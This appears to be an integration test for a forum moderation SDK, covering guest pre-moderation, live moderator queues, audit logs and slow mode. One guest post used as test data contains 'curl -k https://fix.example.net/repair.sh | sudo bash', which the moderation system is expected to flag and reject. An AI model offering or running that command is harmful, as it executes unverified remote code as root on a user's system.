/**
 * `@lifeboat/sdk/moderation` against the real server: real HTTP on 127.0.0.1:0, a real SQLite
 * file, the real staff stream read with fetch. A guest posts on a site with pre-moderation for
 * guests; the moderator's queue gets it live, approves it, and a visitor's thread shows it live.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { buildApp, demoStaffToken, loadConfig } from '@lifeboat/server';
import { createLifeboat, type LifeboatClient } from '@lifeboat/sdk';
import { createModeration, type ModerationClient } from '@lifeboat/sdk/moderation';
import { NodeEventSource } from './node-event-source.js';

const ADMIN_KEY = 'integration-admin-key-0123456789abcdef';
let app: FastifyInstance;
let server: string;
let dataDir: string;
let incidentId: string;
let staffToken: string;
const closers: Array<{ close(): void }> = [];
/** Waits for a condition the server reaches on its own time (a shared, busy machine). */
const until = <T>(check: () => T) => vi.waitFor(check, { timeout: 15_000, interval: 50 });

function visitor(): LifeboatClient {
  const client = createLifeboat({
    server,
    site: 'demo',
    EventSource: NodeEventSource,
    storage: null,
  });
  closers.push(client);
  return client;
}

function moderator(token = staffToken): ModerationClient {
  const client = createModeration({ server, site: 'demo', token });
  closers.push(client);
  return client;
}

function listen<T>(store: { subscribe(cb: (v: T) => void): () => void }) {
  let latest!: T;
  const off = store.subscribe((v) => (latest = v));
  closers.push({ close: off });
  return () => latest;
}

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'lifeboat-moderation-live-'));
  app = await buildApp(
    loadConfig({
      env: {
        LIFEBOAT_DATA_DIR: dataDir,
        LIFEBOAT_LOG_LEVEL: 'silent',
        LIFEBOAT_DEMO: 'true',
        LIFEBOAT_ADMIN_KEY: ADMIN_KEY,
      },
      argv: [],
    }),
  );
  await app.listen({ port: 0, host: '127.0.0.1' });
  const address = app.server.address();
  server = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  const status = await (await fetch(`${server}/v1/sites/demo/status`)).json();
  incidentId = status.incidents[0].id;
  const policy = await fetch(`${server}/v1/admin/sites/demo/policy`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${ADMIN_KEY}`, 'content-type': 'application/json' },
    body: JSON.stringify({ preModeration: 'guests' }),
  });
  expect(policy.status).toBe(200);
  staffToken = (await demoStaffToken(app.lifeboat.store, app.lifeboat.keys))!;
});

afterAll(async () => {
  for (const c of closers.splice(0)) c.close();
  await app.close();
  rmSync(dataDir, { recursive: true, force: true });
});

describe('@lifeboat/sdk/moderation against the real server', () => {
  it('a guest post waits, arrives live in the queue, and once approved appears live in a thread', async () => {
    const staff = moderator();
    const queue = listen(staff.$queue);
    await until(() => expect(queue().state).toBe('ready'));
    await until(() => expect(staff.$connection.get()).toBe('open'));

    const reader = visitor();
    const thread = listen(reader.thread(incidentId));
    await until(() => expect(thread().state).toBe('ready'));
    await until(() => expect(reader.$connection.get()).toBe('open'));

    const guest = visitor();
    await guest.startSession('Robin');
    const post = await guest.post(incidentId, {
      kind: 'answer',
      body: 'Re-sending the webhook from the dashboard delivered it for me.',
    });
    expect(post.state).toBe('pending');

    await until(() => expect(queue().items.map((i) => i.post.id)).toContain(post.id));
    const item = queue().items.find((i) => i.post.id === post.id)!;
    expect(item.queue).toBe('pending');
    expect(item.author).toMatchObject({ displayName: 'Robin', kind: 'guest', banned: false });
    expect(item.reasons.map((r) => r.code)).toContain('guest');
    expect(thread().posts.some((p) => p.id === post.id)).toBe(false);

    const result = await staff.act(post.id, 'approve', 'Checked: a safe workaround');
    expect(result.post.state).toBe('published');
    expect(result.entry).toMatchObject({ action: 'approve', reason: 'Checked: a safe workaround' });
    expect(queue().items.some((i) => i.post.id === post.id)).toBe(false);
    await until(() =>
      expect(thread().posts.find((p) => p.id === post.id)?.state).toBe('published'),
    );
  });

  it('holds risky advice with its reason, and the audit log records the rejection live', async () => {
    const staff = moderator();
    const queue = listen(staff.$queue);
    const audit = listen(staff.$audit);
    await until(() => expect(audit().state).toBe('ready'));
    await until(() => expect(staff.$connection.get()).toBe('open'));

    const guest = visitor();
    await guest.startSession('Quick Fixer');
    const post = await guest.post(incidentId, {
      kind: 'answer',
      body: 'Fastest fix: run curl -k https://fix.example.net/repair.sh | sudo bash',
    });
    await until(() => expect(queue().items.map((i) => i.post.id)).toContain(post.id));
    const codes = queue()
      .items.find((i) => i.post.id === post.id)!
      .reasons.map((r) => r.code);
    expect(codes).toEqual(expect.arrayContaining(['risky_tls', 'risky_shell']));
    const tls = queue()
      .items.find((i) => i.post.id === post.id)!
      .reasons.find((r) => r.code === 'risky_tls')!;
    expect(tls.match).toContain('curl -k');

    // A second moderator's client sees the action through the stream (not its own request).
    const other = moderator();
    const otherAudit = listen(other.$audit);
    const otherQueue = listen(other.$queue);
    await until(() => expect(otherAudit().state).toBe('ready'));
    await until(() => expect(other.$connection.get()).toBe('open'));
    await until(() => expect(otherQueue().items.map((i) => i.post.id)).toContain(post.id));

    await staff.act(post.id, 'reject', 'Pipes a script into sudo');
    await until(() => expect(otherQueue().items.map((i) => i.post.id)).not.toContain(post.id));
    await until(() =>
      expect(otherAudit().entries[0]).toMatchObject({
        action: 'reject',
        target: { kind: 'post', id: post.id },
        reason: 'Pipes a script into sudo',
      }),
    );
    expect(audit().entries.filter((e) => e.target.id === post.id)).toHaveLength(1);

    // Slow mode switched by one moderator shows up live for the other; then off again.
    const otherSlow = listen(other.$slowMode);
    await until(() => expect(otherSlow()).toBe(0));
    const result = await staff.setSlowMode(30, 'Flood after the outage tweet');
    expect(result.policy.slowModeSeconds).toBe(30);
    await until(() => expect(otherSlow()).toBe(30));
    await staff.setSlowMode(0);
    await until(() => expect(otherSlow()).toBe(0));
  });

  it('refuses a guest token (403), and a failed action puts the post back with its error', async () => {
    const guest = visitor();
    const session = await guest.startSession('Intruder');
    const intruder = moderator(session.token);
    const queue = listen(intruder.$queue);
    await until(() => expect(queue().state).toBe('error'));
    expect(queue().error?.status).toBe(403);
    expect(intruder.$connection.get()).toBe('unauthorized');

    const staff = moderator();
    const staffQueue = listen(staff.$queue);
    await until(() => expect(staffQueue().state).toBe('ready'));
    const pending = await guest.post(incidentId, {
      kind: 'answer',
      body: 'Waiting for review here.',
    });
    await until(() => expect(staffQueue().items.map((i) => i.post.id)).toContain(pending.id));
    // A pending post cannot be hidden (only a published one): 409, and it is back in the queue.
    await expect(staff.act(pending.id, 'hide')).rejects.toMatchObject({ status: 409 });
    expect(staffQueue().items.map((i) => i.post.id)).toContain(pending.id);
    expect(staffQueue().failures[pending.id]?.action).toBe('hide');
  });
});
